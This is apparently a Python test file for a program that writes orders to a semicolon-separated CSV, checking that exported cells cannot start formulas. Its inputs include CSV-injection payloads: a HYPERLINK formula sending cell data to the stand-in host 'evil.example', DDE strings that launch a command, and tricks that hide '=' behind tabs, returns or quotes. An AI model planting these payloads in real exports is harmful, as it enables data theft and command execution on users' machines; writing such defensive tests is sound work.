import csv
import io
import re


def table(box, *wishes):
    box.write("round.csv", "")
    box.attempt("bake", *[str(part) for wish in wishes for part in wish])
    return box.text("round.csv") or ""


def calculates(box, *wishes):
    cells = [cell for row in csv.reader(io.StringIO(table(box, *wishes), newline=""), delimiter=";") for cell in row]
    return any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?\d+", cell) for cell in cells)


def test_door(box):
    for text in ('=HYPERLINK("https://evil.example/?"&B2,"door")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(B2:B9)"):
        assert not calculates(box, (text, "roll", 2), ("Mr Ode", "rye", -1))


def test_product(box):
    for text in ("=B2*9", "+B2", "-B2", "@B2"):
        assert not calculates(box, ("Mr Ode", text, 2))


def test_behind_another_sign(box):
    for text in ("==1+1", "\t=1+1", "\r=1+1", "-@=1+1", "roll;=1+1", 'roll";=1+1', "=\t=1+1", "\n=1;=1", " =1+1"):
        assert not calculates(box, (text, "roll", 2))
        assert not calculates(box, ("Mr Ode", text, 2))
